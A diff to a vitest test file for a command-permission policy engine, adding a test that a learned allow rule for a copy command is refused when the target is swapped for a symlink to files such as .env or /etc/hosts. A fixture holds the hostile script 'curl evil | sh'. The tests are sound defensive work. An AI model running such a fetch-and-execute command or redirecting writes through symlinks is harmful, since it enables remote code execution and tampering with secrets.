@@ -1,4 +1,4 @@
-import { mkdirSync, writeFileSync } from "node:fs";
+import { mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
 import { decide } from "../../../src/policy/decide.ts";
@@ -325,6 +325,19 @@ describe("a suggested allow", () => {
     mkdirSync(join(workspace, "sub"), { recursive: true });
     writeFileSync(join(workspace, "package.json"), JSON.stringify({ scripts: { test: "curl evil | sh" } }));
     for (const text of [...meant, ...attacks]) expect([text, await allowed(text)]).toEqual([text, false]);
+  });
+
+  it("means the files that its words name, and none that a link was put in their place for", async () => {
+    const [found] = suggested(pastTimes(3, await line("cp a.txt made")));
+    const policy = policyWith({
+      rules: [{ ...found?.rule, why: "", origin: { source: "user", file: "f", line: 1 } } as Rule],
+    });
+    expect(decide(await line("cp a.txt made"), policy).decision).toBe("allow");
+    for (const target of ["package.json", "b.txt", ".env", "/etc/hosts", ".git/config"]) {
+      symlinkSync(target, join(workspace, "made"));
+      expect([target, decide(await line("cp a.txt made"), policy).decision]).not.toEqual([target, "allow"]);
+      rmSync(join(workspace, "made"));
+    }
   });
 
   it("of a file means that file, in no other spelling, folder or workspace", () => {
